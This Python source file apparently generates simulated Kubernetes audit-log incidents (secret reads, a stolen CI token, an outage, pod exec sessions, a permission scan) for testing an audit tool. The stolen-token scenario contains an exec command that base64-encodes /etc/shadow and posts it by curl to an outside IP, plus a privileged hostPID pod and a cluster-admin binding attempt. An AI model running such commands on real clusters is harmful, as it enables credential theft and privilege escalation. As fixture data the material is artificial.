"""The cast and what it does, incident by incident.

Each function plays one incident and gives its `Story`. A time is how long before now a request belongs, as `6d2h`; the order in
which they are sent is that in which the control plane needs them.
"""

from objects import RBAC, apps, binding, configmap, core, deployment, meta, pod, role, secret, service
from plane import milliseconds
from story import Story

SDK = "Go-http-client/2.0"
# Changes are asked for by the time of day at which the outage began; all else counts from now.
OUTAGE = "14:05"


class Cast:
    """Who there is. An address belongs to somebody; bob has two."""

    def __init__(self, plane):
        self.admin = plane.admin()
        self.alice = plane.person("alice", "127.0.0.2", groups=["dev"])
        self.bob, self.bob_away = (plane.person("bob", address, groups=["dev"]) for address in ("127.0.0.3", "127.0.0.13"))
        self.carol = plane.person("carol", "127.0.0.4", groups=["sre"])
        self.dave = plane.person("dave", "127.0.0.5", groups=["contractors"])
        self.mallory = plane.person("mallory", "127.0.0.77", agent="curl/8.14.1", groups=["interns"])
        self.runner = plane.person("ci-runner", "127.0.0.10", agent="runner/17.2", groups=["ci"])


def token(story, client, ago, namespace, account, seconds=86400):
    made = story(
        client,
        ago,
        "POST",
        core("serviceaccounts", namespace, account) + "/token",
        {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": seconds}},
        expect=201,
    )
    return made["status"]["token"]


def setting(plane, cast):
    """Eight days ago an administrator sets the place up."""
    story, seconds = Story(plane, "setting"), iter(range(3600))

    def make(path, body):
        return story(
            cast.admin, f"7d23h{59 - (second := next(seconds)) // 60}m{59 - second % 60}s", "POST", path, body, expect=201
        )

    accounts = {
        "payments": ["api"],
        "checkout": ["web"],
        "ci": ["deployer"],
        "backup": ["velero"],
        "monitoring": ["exporter"],
        "sandbox": ["report"],
        "kubesphere-system": ["kubesphere"],
    }
    for namespace, names in accounts.items():
        make(core("namespaces"), {"apiVersion": "v1", "kind": "Namespace", "metadata": meta(namespace)})
        for name in names:
            make(
                core("serviceaccounts", namespace),
                {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(name, namespace)},
            )
    roles, bindings = f"/apis/{RBAC}/v1/clusterroles", f"/apis/{RBAC}/v1"
    make(roles, role("developer", (["", "apps", "networking.k8s.io"], ["*"], ["*"])))
    # `edit`, `view` and `admin` are empty here: it is the controller manager that gathers their rules.
    make(roles, role("operator", (["", "apps", "networking.k8s.io"], ["*"], ["*"])))
    make(
        roles,
        role(
            "deployer", (["", "apps"], ["pods", "pods/exec", "secrets", "configmaps", "serviceaccounts", "deployments"], ["*"])
        ),
    )
    make(roles, role("intern", ([""], ["pods", "configmaps", "secrets"], ["get", "list", "watch", "create"])))
    make(roles, role("secret-reader", ([""], ["secrets"], ["get", "list", "watch"])))
    make(roles, role("impersonator", ([""], ["users", "groups"], ["impersonate"])))
    make(
        roles,
        role(
            "session",
            ([""], ["pods"], ["get", "list"]),
            ([""], ["pods/exec", "pods/attach", "pods/portforward"], ["get", "create"]),
        ),
    )
    make(roles, role("token-maker", ([""], ["serviceaccounts/token"], ["create"])))
    for namespace in ("payments", "checkout"):
        make(f"{bindings}/namespaces/{namespace}/rolebindings", binding("developers", "developer", "Group", "dev", namespace))
        make(
            f"{bindings}/namespaces/{namespace}/rolebindings",
            binding("deployer", "deployer", "ServiceAccount", "ci:deployer", namespace),
        )
    for name, to, kind, subject, namespace in (
        ("api", "secret-reader", "ServiceAccount", "payments:api", "payments"),
        ("contractors", "session", "Group", "contractors", "payments"),
        ("interns", "session", "User", "mallory", "payments"),
        ("runner", "token-maker", "User", "ci-runner", "ci"),
        ("interns", "intern", "Group", "interns", "sandbox"),
    ):
        make(f"{bindings}/namespaces/{namespace}/rolebindings", binding(name, to, kind, subject, namespace))
    for name, to, kind, subject in (
        ("sre", "operator", "Group", "sre"),
        ("velero", "secret-reader", "ServiceAccount", "backup:velero"),
        ("exporter", "secret-reader", "ServiceAccount", "monitoring:exporter"),
        ("kubesphere", "impersonator", "ServiceAccount", "kubesphere-system:kubesphere"),
    ):
        make(f"{bindings}/clusterrolebindings", binding(name, to, kind, subject))
    make(core("nodes"), {"apiVersion": "v1", "kind": "Node", "metadata": meta("node-1", labels={"kubernetes.io/os": "linux"})})
    story(
        cast.admin,
        "7d23h58m",
        "PATCH",
        core("nodes", name="node-1") + "/status",
        {
            "status": {
                "addresses": [{"type": "InternalIP", "address": "127.0.0.1"}],
                "daemonEndpoints": {"kubeletEndpoint": {"Port": plane.kubelet_port}},
            }
        },
        patch="merge",
        expect=200,
    )
    make(core("secrets", "payments"), secret("db", "payments"))
    make(core("secrets", "payments"), secret("stripe", "payments"))
    make(apps("checkout"), deployment("checkout", "checkout", "registry.example.test/checkout:2.3.0", DB_POOL="50"))
    make(apps("payments"), deployment("api", "payments", "registry.example.test/payments/api:4.7.0"))
    make(core("configmaps", "checkout"), configmap("checkout", "checkout", timeout="3s", retries="2", pool="50"))
    make(core("configmaps", "checkout"), configmap("feature-flags", "checkout", express="on", giftcards="off"))
    make(core("services", "checkout"), service("checkout", "checkout", 8080))
    make(
        "/apis/networking.k8s.io/v1/namespaces/checkout/ingresses",
        {
            "apiVersion": "networking.k8s.io/v1",
            "kind": "Ingress",
            "metadata": meta("shop", "checkout"),
            "spec": {
                "rules": [
                    {
                        "host": "shop.example.test",
                        "http": {
                            "paths": [
                                {
                                    "path": "/",
                                    "pathType": "Prefix",
                                    "backend": {"service": {"name": "checkout", "port": {"number": 80}}},
                                }
                            ]
                        },
                    }
                ]
            },
        },
    )
    for name, app in (("api-7c9d5-x2x4k", "api"), ("api-7c9d5-m8q2n", "api"), ("ledger-0", "ledger")):
        make(core("pods", "payments"), pod(name, "payments", app, nodeName="node-1"))
        story(
            cast.admin,
            "7d23h57m",
            "PATCH",
            core("pods", "payments", name) + "/status",
            {"status": {"phase": "Running"}},
            patch="strategic",
            expect=200,
        )
    return story


def secret_read(plane, cast):
    """Who read payments/db last week? By name, by lists of the namespace and of all, by watches."""
    story, db = Story(plane, "secret-read"), core("secrets", "payments", "db")
    everything, here = core("secrets"), core("secrets", "payments")
    accounts = {}
    for number, (namespace, account, address, agent) in enumerate(
        (
            ("payments", "api", "127.0.0.20", "payments-api/4.7"),
            ("backup", "velero", "127.0.0.21", "velero/v1.16.1"),
            ("monitoring", "exporter", "127.0.0.22", "exporter/0.9"),
            ("kubesphere-system", "kubesphere", "127.0.0.30", "ks-apiserver"),
        )
    ):
        accounts[account] = plane.bearer(token(story, cast.admin, f"7d20h{number}m", namespace, account), address, agent)
    # Longer ago than a week: not among the answers.
    story(cast.bob, "7d10h", "GET", db, expect=200)
    for day in range(6, -1, -1):
        story(accounts["api"], f"{day}d7h", "GET", db, expect=200)
        story(accounts["velero"], f"{day}d5h", "GET", f"{everything}?limit=500", expect=200)
    for day in (6, 3, 0):
        story(accounts["exporter"], f"{day}d9h", "GET", f"{everything}?limit=500&resourceVersion=0", expect=200)
        story(accounts["exporter"], f"{day}d8h59m", "GET", f"{everything}?watch=true&timeoutSeconds=2")
    story(cast.bob, "6d2h", "GET", db, expect=200)
    story(cast.bob, "5d2h", "GET", f"{here}?limit=500", expect=200)
    story(cast.carol, "4d6h", "GET", f"{here}?fieldSelector=metadata.name%3Ddb&watch=true&timeoutSeconds=1")
    story(cast.carol, "4d6h1m", "GET", db, expect=200)
    story(cast.bob_away, "2d4h", "GET", db, expect=200)
    story(cast.bob_away, "2d3h58m", "GET", core("secrets", "payments", "stripe"), expect=200)
    story(cast.dave, "1d9h", "GET", db, expect=403)
    story(cast.dave, "1d8h59m", "GET", f"{here}?limit=500", expect=403)
    story(accounts["kubesphere"].as_user("bob", "dev"), "1d3h", "GET", db, expect=200)
    story(cast.alice, "10h20m", "GET", f"{here}?limit=500", expect=200)
    story(cast.alice, "10h19m", "GET", db, expect=200)
    return story, accounts


def stolen_token(plane, cast):
    """The deployer's credentials in use for eight days from one address; since five hours one of them from another, too."""
    story = Story(plane, "stolen-token")
    held, agent = {}, "deployer/3.1 (linux/amd64)"
    # The base sample's deployer sits at 127.0.0.1; that address is old, too.
    old = plane.bearer(token(story, cast.runner, "7d21h", "ci", "deployer"), "127.0.0.1", agent)
    for day in (7, 4, 1):
        note = {"metadata": {"annotations": {"checked": f"{day} days ago"}}}
        story(old, f"{day}d20h50m", "PATCH", apps("payments", "api"), note, "merge", expect=200)
    version = 0
    for day in range(7, -1, -1):
        for hour, name in ((12, "nightly"), (3, "release")):
            ago = f"{day}d{hour}h"
            if name not in held:
                held[name] = token(story, cast.runner, f"{ago}50m", "ci", "deployer")
            client = plane.bearer(held[name], "127.0.0.10", agent)
            version += 1
            jobs = [
                ("payments", "api", f"registry.example.test/payments/api:4.7.{version}"),
                ("checkout", "checkout", f"registry.example.test/checkout:2.3.{version}"),
            ]
            # The outage may lie as far back as a day and some hours: who changes its objects there must be of its story.
            for minute, (namespace, app, image) in enumerate(jobs if day > 1 else jobs[:1]):
                object = story(client, f"{ago}{40 - minute}m", "GET", apps(namespace, app), expect=200)
                object["spec"]["template"]["spec"]["containers"][0]["image"] = image
                story(client, f"{ago}{39 - minute}m30s", "PUT", apps(namespace, app), object, expect=200)
                story(client, f"{ago}{38 - minute}m", "GET", f"{core('pods', namespace)}?labelSelector=app%3D{app}", expect=200)
    # Short-lived ones, used for one job each.
    for day in (5, 3, 2):
        job = plane.bearer(token(story, cast.runner, f"{day}d9h", "ci", "deployer", 3600), "127.0.0.10", agent)
        story(job, f"{day}d8h59m", "GET", f"{apps('checkout')}?limit=50", expect=200)
        label = {"metadata": {"labels": {"checked": f"{day}-days-ago"}}}
        story(job, f"{day}d8h58m", "PATCH", core("configmaps", "checkout", "checkout"), label, "merge", expect=200)

    thief = plane.bearer(held["nightly"], "127.0.0.66", "curl/8.5.0")
    story(
        thief,
        "5h0m",
        "POST",
        "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "payments"}},
        expect=201,
    )
    story(thief, "4h59m30s", "GET", core("namespaces"), expect=403)
    story(thief, "4h59m", "GET", core("secrets"), expect=403)
    story(thief, "4h58m", "GET", core("secrets", "payments"), expect=200)
    story(thief, "4h57m", "GET", core("secrets", "payments", "db"), expect=200)
    story(thief, "4h56m", "GET", core("secrets", "payments", "stripe"), expect=200)
    story(thief, "4h50m", "GET", core("pods", "payments"), expect=200)
    story(
        thief,
        "4h48m",
        "POST",
        core("pods", "payments"),
        pod(
            "debug-7f2",
            "payments",
            "debug",
            "registry.example.test/tools/net:1",
            nodeName="node-1",
            hostPID=True,
            container={"securityContext": {"privileged": True}},
        ),
        expect=201,
    )
    story.session(
        thief,
        "4h46m",
        core("pods", "payments", "debug-7f2") + "/exec",
        6.5,
        command=["sh", "-c", "cat /host/etc/shadow | base64 | curl -s --data-binary @- http://198.51.100.7/u"],
        container="debug",
        stdout="true",
        stderr="true",
    )
    story(
        thief,
        "4h45m",
        "POST",
        core("serviceaccounts", "payments"),
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta("helper", "payments")},
        expect=201,
    )
    story(
        thief,
        "4h44m",
        "POST",
        f"/apis/{RBAC}/v1/clusterrolebindings",
        binding("helper", "cluster-admin", "ServiceAccount", "payments:helper"),
        expect=403,
    )
    story(thief, "4h40m", "DELETE", core("pods", "payments", "debug-7f2") + "?gracePeriodSeconds=0", expect=200)
    return story


def outage(plane, cast, kubesphere):
    """What did alice change before the outage? With bodies, so that each change shows a difference, but for one object."""
    story = Story(plane, "outage", before=OUTAGE)

    def change(client, ago, path, edit):
        object = story(client, ago, "GET", path, expect=200)
        edit(object)
        story(client, later(ago, 20), "PUT", path, object, expect=200)

    def container(object):
        return object["spec"]["template"]["spec"]["containers"][0]

    story(
        cast.bob,
        "2h40m",
        "PATCH",
        apps("payments", "api"),
        {"metadata": {"annotations": {"owner": "team-payments"}}},
        "merge",
        expect=200,
    )
    story(cast.alice, "1h55m", "GET", f"{apps('checkout')}?limit=500", expect=200)
    change(
        cast.alice, "1h50m", core("configmaps", "checkout", "checkout"), lambda o: o["data"].update(timeout="30s", retries="5")
    )
    change(cast.alice, "1h31m", apps("checkout", "checkout"), lambda o: container(o)["env"][0].update(value="500"))
    story(cast.bob, "1h20m", "PATCH", apps("payments", "api") + "/scale", {"spec": {"replicas": 6}}, "merge", expect=200)
    story(
        cast.alice,
        "1h12m",
        "PATCH",
        core("services", "checkout", "checkout"),
        {"spec": {"sessionAffinity": "ClientIP"}},
        "merge",
        expect=200,
    )
    story(
        cast.alice,
        "58m",
        "PATCH",
        core("secrets", "payments", "stripe"),
        {"metadata": {"labels": {"rotate": "soon"}}},
        "merge",
        expect=200,
    )
    story(
        cast.alice,
        "45m",
        "PATCH",
        "/apis/networking.k8s.io/v1/namespaces/checkout/ingresses/shop",
        {"metadata": {"annotations": {"nginx.ingress.kubernetes.io/proxy-read-timeout": "3"}}},
        "merge",
        expect=200,
    )
    story(
        cast.alice,
        "40m",
        "POST",
        core("configmaps", "kube-system"),
        configmap("checkout-dns", "kube-system", ttl="5"),
        expect=403,
    )
    story(
        kubesphere.as_user("alice", "dev"),
        "31m",
        "PATCH",
        core("configmaps", "checkout", "feature-flags"),
        {"data": {"giftcards": "on"}},
        "merge",
        expect=200,
    )
    change(
        cast.alice,
        "22m",
        apps("checkout", "checkout"),
        lambda o: container(o).update(image="registry.example.test/checkout:2.4.0-rc1"),
    )
    story(
        cast.alice,
        "15m",
        "PATCH",
        apps("checkout", "checkout"),
        {"spec": {"template": {"spec": {"containers": [{"name": "checkout", "resources": {"limits": {"memory": "256Mi"}}}]}}}},
        "strategic",
        expect=200,
    )
    story(cast.alice, "11m", "PATCH", apps("checkout", "checkout") + "/scale", {"spec": {"replicas": 1}}, "merge", expect=200)
    change(cast.alice, "7m", core("services", "checkout", "checkout"), lambda o: o["spec"]["ports"][0].update(targetPort=8081))
    story(cast.alice, "3m", "DELETE", core("configmaps", "checkout", "feature-flags"), expect=200)
    # What came after does not belong to the answer.
    change(cast.carol, "-6m", core("services", "checkout", "checkout"), lambda o: o["spec"]["ports"][0].update(targetPort=8080))
    change(
        cast.alice,
        "-9m",
        apps("checkout", "checkout"),
        lambda o: container(o).update(image="registry.example.test/checkout:2.3.12"),
    )
    return story


def later(ago, seconds):
    return f"{(milliseconds(ago) / 1000) - seconds}s"


def sessions(plane, cast):
    """Who executed what in a payment pod?"""
    story = Story(plane, "sessions")
    api, other, ledger = (core("pods", "payments", name) for name in ("api-7c9d5-x2x4k", "api-7c9d5-m8q2n", "ledger-0"))
    console = {"stdin": "true", "stdout": "true", "tty": "true"}
    output = {"stdout": "true", "stderr": "true"}
    story.session(cast.bob, "6d1h", f"{api}/exec", 1.2, command=["ls", "-l", "/var/log/app"], container="api", **output)
    story.session(
        cast.carol,
        "5d4h",
        f"{ledger}/exec",
        4.0,
        "spdy",
        command=["psql", "-c", "select count(*) from postings"],
        container="ledger",
        **output,
    )
    story.session(cast.alice, "4d2h", f"{api}/portforward", 2.5, ports="8080")
    story.session(cast.carol, "3d5h", f"{other}/attach", 3.0, "spdy", container="api", **console)
    story.session(cast.bob_away, "2d3h30m", f"{ledger}/portforward", 1.5, "spdy", ports="5432")
    story.session(cast.dave, "22h", f"{api}/exec", 0.8, command=["env"], container="api", **output)
    story.session(
        cast.bob,
        "8h12m",
        f"{api}/exec",
        2.0,
        "spdy",
        command=["tail", "-n", "200", "/var/log/app/error.log"],
        container="api",
        **output,
    )
    # One of them, and what the same actor did around it.
    story(cast.dave, "3h24m", "GET", f"{core('pods', 'payments')}?limit=500", expect=200)
    story(cast.dave, "3h23m", "GET", core("secrets", "payments", "db"), expect=403)
    story.session(cast.dave, "3h20m", f"{ledger}/exec", 1.1, command=["id"], container="ledger", **output)
    story.session(
        cast.dave,
        "3h18m",
        f"{ledger}/exec",
        5.4,
        "spdy",
        command=["sh", "-c", "cat /etc/passwd"],
        container="ledger",
        **console,
    )
    story.session(
        cast.dave,
        "3h16m",
        f"{ledger}/exec",
        9.3,
        command=["sh", "-c", "tar cz /var/lib/ledger | base64"],
        container="ledger",
        **output,
    )
    story.session(cast.dave, "3h14m", f"{ledger}/portforward", 4.2, ports="5432")
    story(cast.dave, "3h11m", "DELETE", ledger, expect=403)
    story.session(cast.dave, "3h9m", f"{other}/attach", 2.2, container="api", **console)
    story.session(cast.bob, "1h30m", f"{other}/exec", 0.6, command=["date"], container="api", **output)
    story.session(cast.carol, "50m", f"{api}/attach", 1.0, container="api", **output)
    story.session(cast.mallory, "36m", f"{api}/exec", 0.7, command=["whoami"], container="api", **output)
    return story


def burst(plane, cast):
    """A scan: hundreds of refusals within a minute, and three requests that got through."""
    story, clock = Story(plane, "burst"), iter(range(10**6))

    def next_ago():
        return f"40m{59.5 - next(clock) * 0.17:.2f}s"

    namespaces = ["kube-system", "payments", "checkout", "ci", "backup", "monitoring", "kubesphere-system", "default"]
    groups = {
        "/api/v1": ["secrets", "configmaps", "serviceaccounts", "pods", "services", "endpoints", "persistentvolumeclaims"],
        "/apis/apps/v1": ["deployments", "statefulsets", "daemonsets"],
        "/apis/batch/v1": ["jobs", "cronjobs"],
        f"/apis/{RBAC}/v1": ["roles", "rolebindings"],
        "/apis/networking.k8s.io/v1": ["ingresses", "networkpolicies"],
    }
    for group, resources in groups.items():
        for resource in resources:
            for namespace in namespaces:
                # The session role lets mallory list the pods of payments: that comes below.
                if (resource, namespace) != ("pods", "payments"):
                    story(cast.mallory, next_ago(), "GET", f"{group}/namespaces/{namespace}/{resource}", expect=403)
    for path in (
        core("nodes"),
        core("namespaces"),
        core("persistentvolumes"),
        core("secrets"),
        f"/apis/{RBAC}/v1/clusterroles",
        f"/apis/{RBAC}/v1/clusterrolebindings",
        "/apis/storage.k8s.io/v1/storageclasses",
    ):
        story(cast.mallory, next_ago(), "GET", path, expect=403)
    for namespace in namespaces:
        story(cast.mallory, next_ago(), "POST", core("pods", namespace), pod("x", namespace, "x"), expect=403)
        story(cast.mallory, next_ago(), "DELETE", core("secrets", namespace, "db"), expect=403)
    for namespace in namespaces:
        for name in ("db", "admin-token", "tls"):
            story(cast.mallory, next_ago(), "GET", core("secrets", namespace, name), expect=403)
    story(cast.mallory, next_ago(), "GET", core("pods", "payments"), expect=200)
    # Of these three, the default rules keep the reading of secrets and the change, and no list of pods.
    story(cast.mallory, next_ago(), "GET", core("secrets", "sandbox"), expect=200)
    story(cast.mallory, next_ago(), "POST", core("configmaps", "sandbox"), configmap("notes", "sandbox", found="2"), expect=201)
    return story


def others(plane, cast, kubesphere):
    """What the shipped rules are for besides, and the odd things that an archive must be able to show.

    Nothing here is of alice's: it might fall into the two hours before the outage.
    """
    story = Story(plane, "others")
    story(
        cast.carol,
        "9h10m",
        "POST",
        core("pods", "checkout"),
        pod("proxy", "checkout", "proxy", container={"ports": [{"containerPort": 8080, "hostPort": 8080}]}),
        expect=201,
    )
    story(
        cast.bob, "7h40m", "POST", core("pods", "payments"), pod("sniffer", "payments", "sniffer", hostNetwork=True), expect=201
    )
    story(cast.bob, "6h55m", "POST", core("services", "payments"), service("api", "payments", 8080, nodePort=30080), expect=201)
    stranger = plane.bearer("not.a.token", "127.0.0.99", SDK)
    for number in range(6):
        story(stranger, f"2h10m{50 - number * 5}s", "GET", [core("secrets"), core("pods"), "/apis"][number % 3], expect=401)
    # Impersonation: allowed, and refused.
    story(kubesphere.as_user("carol", "sre"), "2h5m", "GET", core("pods", "payments"), expect=200)
    story(
        kubesphere.as_user("carol", "sre"),
        "2h4m",
        "PATCH",
        core("pods", "payments", "ledger-0"),
        {"metadata": {"labels": {"tier": "data"}}},
        "merge",
        expect=200,
    )
    story(cast.dave.as_user("admin", "system:masters"), "2h3m", "GET", core("secrets"), expect=403)
    # A namespace that is deleted and made again is another one of the same name.
    name = "preview-17"
    namespace = {"apiVersion": "v1", "kind": "Namespace", "metadata": meta(name)}
    story(cast.admin, "11h", "POST", core("namespaces"), namespace, expect=201)
    story(cast.admin, "10h59m", "POST", core("configmaps", name), configmap("settings", name, owner="alice"), expect=201)
    story(cast.admin, "5h30m", "DELETE", core("configmaps", name, "settings"), expect=200)
    going = story(cast.admin, "5h29m", "DELETE", core("namespaces", name=name), expect=200)
    going["spec"]["finalizers"] = []
    story(cast.admin, "5h28m", "PUT", core("namespaces", name=name) + "/finalize", going, expect=200)
    story(cast.admin, "4h10m", "POST", core("namespaces"), namespace, expect=201)
    story(cast.admin, "4h9m", "POST", core("configmaps", name), configmap("settings", name, owner="bob"), expect=201)
    return story


def play(plane):
    """Plays all of them, and gives their stories."""
    cast = Cast(plane)
    stories = [setting(plane, cast)]
    reads, accounts = secret_read(plane, cast)
    kubesphere = accounts["kubesphere"]
    return stories + [
        reads,
        stolen_token(plane, cast),
        outage(plane, cast, kubesphere),
        sessions(plane, cast),
        burst(plane, cast),
        others(plane, cast, kubesphere),
    ]
